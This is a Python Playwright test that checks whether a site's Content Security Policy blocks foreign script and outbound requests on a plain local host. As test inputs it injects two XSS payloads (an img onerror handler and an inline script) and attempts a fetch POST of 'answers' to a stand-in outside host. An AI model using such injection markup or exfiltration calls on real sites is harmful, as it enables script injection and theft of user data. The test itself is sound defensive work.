"""What a page may load and whom it may ask, on a host that sends no headers of its own."""

import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, expect


class Plain(SimpleHTTPRequestHandler):
    """A host that knows the types and nothing else."""

    extensions_map: ClassVar = {**SimpleHTTPRequestHandler.extensions_map, ".mjs": "text/javascript"}

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def plain_host(site: Path) -> Iterator[str]:
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Plain, directory=str(site))) as serving:
        threading.Thread(target=serving.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{serving.server_port}"
        serving.shutdown()


def test_the_assessment_runs_and_nothing_foreign_runs_or_can_be_sent_to_anybody_else(
    browser: Browser, plain_host: str
) -> None:
    page = browser.new_page()
    page.add_init_script("delete Navigator.prototype.serviceWorker")
    violations: list[str] = []
    page.on(
        "console", lambda said: violations.append(said.text) if "Content Security Policy" in said.text else None
    )
    page.goto(f"{plain_host}/zh/selfcheck/")
    expect(page.locator("#selfcheck-result")).to_have_attribute("data-state", "ready", timeout=30_000)
    assert violations == []
    for markup in ("<img src=x onerror='window.ran = 1'>", "<script>window.ran = 1</script>"):
        page.evaluate(
            "(markup) => document.body.append(document.createRange().createContextualFragment(markup))", markup
        )
    page.wait_for_timeout(500)
    assert page.evaluate("window.ran") is None
    assert [said for said in violations if "inline" in said]
    violations.clear()
    sending = (
        "fetch('http://127.0.0.2:9/', { method: 'POST', body: 'answers' }).then(() => 'sent', () => 'refused')"
    )
    assert page.evaluate(sending) == "refused"
    assert "connect-src 'self'" in violations[0]
    page.close()
